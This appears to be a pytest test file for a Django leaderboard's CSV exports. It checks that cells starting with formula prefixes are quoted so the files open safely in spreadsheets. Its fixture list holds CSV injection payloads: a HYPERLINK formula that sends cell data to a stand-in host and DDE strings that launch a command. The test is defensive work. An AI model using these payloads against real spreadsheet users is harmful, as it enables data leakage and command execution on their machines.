"""CSV exports open safely in a spreadsheet: every cell an uploader or a suite controls that starts
with a formula prefix (OWASP's = + - @ tab CR) comes back with a leading single quote, in every CSV
the site writes; numbers stay numbers; the JSON exports keep the strings as they were."""
import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from leaderboard.exports import FORMULA_PREFIXES, csv_cell, csv_response
from leaderboard.rules import LeaderboardFilters
from leaderboard.selectors import leaderboard_get
from runs.models import Function, Paper, Sample, Suite
from tests.leaderboard.factories import FAIL, PASS, make_attempt, make_run
from tests.support import standings_refreshed

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(db):
    """A suite whose paper, file, function and sample names, and systems whose agent, model and
    configuration, are formula injections."""
    suite = Suite.objects.create(name="toy", version="1", gold_root="/nonexistent")
    paper = Paper.objects.create(suite=suite, paper_id=INJECTIONS[3], title="A paper")
    function = Function.objects.create(paper=paper, func_id=0, file=INJECTIONS[2], name=INJECTIONS[0])
    samples = []
    for position, injection in enumerate(INJECTIONS):
        sample = Sample.objects.create(paper=paper, sample_id=f"{injection}#{position}", n=1)
        sample.functions.set([function])
        samples.append(sample)
    for position, injection in enumerate(INJECTIONS):
        run = make_run(suite, agent=injection, model=injection, config={"note": injection}, n_values=(1,),
                       finished=datetime(2026, 1, 10, tzinfo=UTC))
        for index, sample in enumerate(samples):
            make_attempt(run, sample, 0, PASS if (index + position) % 2 else FAIL)
    standings_refreshed()
    return samples


def cells(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.getvalue().decode(), newline="")))  # streamed or not


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, value in row.items():
            assert is_number(value) or not value.startswith(FORMULA_PREFIXES), (column, value)


def test_leaderboard_csv(hostile, client):
    rows = cells(client.get("/", {"format": "csv"}))
    measured = [row for row in rows if row["reference"] == "false"]
    assert sorted(row["model"] for row in measured) == sorted("'" + injection for injection in INJECTIONS)
    for row in measured:
        injection = row["model"][1:]
        assert row["agent"] == "'" + injection
        assert row["system"].startswith("'" + injection)
        assert row["agent_config"].startswith('{"note":')  # a JSON object is not a formula: left alone
        assert 0 <= float(row["pass1"]) <= 1 and row["n"] == "1"
    assert_no_formula(rows)
    # The JSON export is not for spreadsheets: the strings are as uploaded.
    data = client.get("/", {"format": "json"}).json()
    assert sorted(row["model"] for row in data["rows"] if not row["reference"]) == sorted(INJECTIONS)


def test_function_difficulty_csv(hostile, client):
    rows = cells(client.get(reverse("leaderboard:functions"), {"format": "csv"}))
    assert [(row["paper"], row["file"], row["name"]) for row in rows] == [
        ("'" + INJECTIONS[3], "'" + INJECTIONS[2], "'" + INJECTIONS[0])
    ]
    assert rows[0]["attempts"] == str(len(INJECTIONS) ** 2)
    assert_no_formula(rows)


def test_system_csvs(hostile, client):
    slug = leaderboard_get(filters=LeaderboardFilters()).rows[0].slug
    url = reverse("leaderboard:system", args=[slug])
    samples = cells(client.get(url, {"format": "csv"}))
    assert sorted(row["sample_id"] for row in samples) == sorted(f"'{sample.sample_id}" for sample in hostile)
    assert_no_formula(samples)
    for table in ("runs", "by_n"):
        rows = cells(client.get(url, {"format": "csv", "table": table}))
        assert rows
        assert_no_formula(rows)


@pytest.mark.parametrize("injection", INJECTIONS)
def test_each_prefix_is_quoted_and_round_trips(injection):
    response = csv_response("x.csv", [{"text": injection, "number": -0.25, "count": -3, "flag": True, "none": None}],
                            ["text", "number", "count", "flag", "none"])
    [row] = cells(response)
    assert row == {"text": "'" + injection, "number": "-0.25", "count": "-3", "flag": "true", "none": ""}


def test_cells_that_need_nothing():
    assert [csv_cell(value) for value in ("plain", "a=b", " =1", "'quoted", "", 1.5, -2)] == [
        "plain", "a=b", " =1", "'quoted", "", 1.5, -2
    ]
